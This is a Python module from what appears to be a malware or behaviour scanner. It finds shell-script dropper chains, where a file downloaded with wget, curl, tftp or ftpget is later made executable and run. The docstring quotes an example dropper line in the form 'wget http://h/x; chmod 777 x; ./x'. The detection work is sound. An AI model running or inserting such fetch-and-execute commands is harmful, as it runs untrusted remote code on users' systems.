"""Command chains of a shell script: a file downloaded, then started.

Shell is read as text by the string rules; this reader adds the one fact a pattern cannot
see across commands: the file a ``wget``/``curl``/``tftp``/``ftpget`` line saved is the file a
later command starts (``./x``, ``/tmp/x``, ``$F``, ``sh x``, ``. x``), usually after a
``chmod +x`` or ``chmod 777``. That is the dropper shape (``wget http://h/x; chmod 777 x;
./x``) and it is reported as the call ``run<-download``, the fact Python's reader gives for
``urlretrieve`` then ``subprocess``, so one rule (``thr-fetch-then-run``) covers both.

Bounded: the text is only tokenized when it names a download tool at all, lines longer than
``MAX_LINE`` (payloads appended to self-extracting scripts, minified blobs) are skipped and
at most ``MAX_TEXT`` characters of script are read; the string rules still see all of it.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable, Iterator

from finalexam.analyze.behavior.facts import Fact
from finalexam.analyze.behavior.python.commands import INTERPRETERS, WRAPPERS

MAX_LINE = 16 * 1024
MAX_TEXT = 2 * 1024 * 1024
RUN_DOWNLOAD = "run<-download"

_DOWNLOAD_TOOLS = ("wget", "curl", "tftp", "ftpget")
_DOWNLOADERS = re.compile(rf"\b(?:{'|'.join(_DOWNLOAD_TOOLS)})\b")
_SEPARATOR_CHARS = frozenset(";&|(){}")
_KEYWORDS = frozenset({"if", "then", "else", "elif", "do", "while", "until", "!", "time"})
_SOURCE = frozenset({".", "source"})
_ASSIGNMENT = re.compile(r"^[A-Za-z_]\w*=")
_BRACED = re.compile(r"\$\{(\w+)\}")


def shell_calls(text: str, context_at: Callable[[int], str]) -> list[Fact]:
    """``run<-download`` facts of a shell script, each on the line that starts the file."""
    if not _DOWNLOADERS.search(text, 0, MAX_TEXT):
        return []
    downloaded: set[str] = set()
    facts: list[Fact] = []
    for line, command in _commands(text[:MAX_TEXT]):
        program, arguments = command[0], command[1:]
        if program in _DOWNLOAD_TOOLS:
            downloaded.update(_saved_names(program, arguments))
            continue
        started = _started(program, arguments)
        if started is not None and _name(started) in downloaded:
            facts.append(Fact("call", RUN_DOWNLOAD, line, context_at(line)))
    return facts


def _started(program: str, arguments: list[str]) -> str | None:
    """The file a command starts: a path as the program, or the script an interpreter or
    ``.``/``source`` is given."""
    if program in _SOURCE or program.rsplit("/", 1)[-1] in INTERPRETERS:
        operands = [a for a in arguments if not a.startswith("-")]
        return operands[0] if operands else None
    if "/" in program or program.startswith("$"):
        return program
    return None


# the option that names the saved file, and the one that names the remote file, per tool
_OUTPUT_OPTION = {"wget": "O", "curl": "o", "tftp": "l"}


def _saved_names(program: str, arguments: list[str]) -> set[str]:
    """Names of the files a download command writes: its output option or redirection,
    else the remote file's last path segment (as wget, ``curl -O`` and tftp name them)."""
    output: str | None = None
    remote_name = program != "curl"
    remote: list[str] = []
    operands: list[str] = []
    words = iter(arguments)
    for word in words:
        if word in (">", ">>"):
            output = next(words, None)
        elif word.startswith("--"):
            option, _, value = word.partition("=")
            if option in ("--output-document", "--output", "--local-file"):
                output = value or next(words, None)
            remote_name = remote_name or option == "--remote-name"
        elif word.startswith("-") and len(word) > 1:
            for index, letter in enumerate(word[1:], start=2):
                if letter == _OUTPUT_OPTION.get(program) or (program == "tftp" and letter == "r"):
                    value = word[index:] or next(words, "")
                    if letter == "r":
                        remote.append(value)
                    else:
                        output = value
                    break
                if program == "ftpget" and letter in "upP":  # user, password, port
                    next(words, None)
                    break
                remote_name = remote_name or (program == "curl" and letter == "O")
        elif "://" in word:
            remote.append(word)
        else:
            operands.append(word)
    if program == "ftpget" and len(operands) >= 2:
        output = operands[1]
    if program == "tftp" and "get" in operands[:-1]:
        remote.append(operands[operands.index("get") + 1])
    names = {_name(output)} if output and output != "-" else set()
    if remote_name and output is None:
        names.update(_name(url.split("?", 1)[0].split("#", 1)[0]) for url in remote)
    names.discard("")
    return names


def _name(path: str) -> str:
    """A file's last path segment, with ``${F}`` read as ``$F``."""
    return _BRACED.sub(r"$\1", path).rstrip("/").rsplit("/", 1)[-1]


def _commands(text: str) -> Iterator[tuple[int, list[str]]]:
    """Each simple command of the script with its line: wrappers, keywords and variable
    assignments in front of it taken off, ``busybox wget`` read as ``wget``."""
    for number, line in _logical_lines(text):
        if len(line) > MAX_LINE or "\0" in line:
            continue
        command: list[str] = []
        for token in [*_tokens(line), ";"]:
            if not set(token) <= _SEPARATOR_CHARS:
                command.append(token)
                continue
            while command and (
                command[0] in _KEYWORDS or command[0] in WRAPPERS or _ASSIGNMENT.match(command[0])
            ):
                command.pop(0)
            if command:
                yield number, command
            command = []


def _logical_lines(text: str) -> Iterator[tuple[int, str]]:
    """Lines (numbered from 1) with backslash continuations joined."""
    pending, start = "", 1
    for number, line in enumerate(text.split("\n"), start=1):
        if not pending:
            start = number
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        yield start, pending + line
        pending = ""
    if pending:
        yield start, pending


def _tokens(line: str) -> list[str]:
    lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|()<>")
    lexer.whitespace_split = True
    try:
        return list(lexer)
    except ValueError:  # an unclosed quote (a string that goes on to the next line)
        return re.sub(r"[\"'`]", " ", line.split("#", 1)[0]).split()
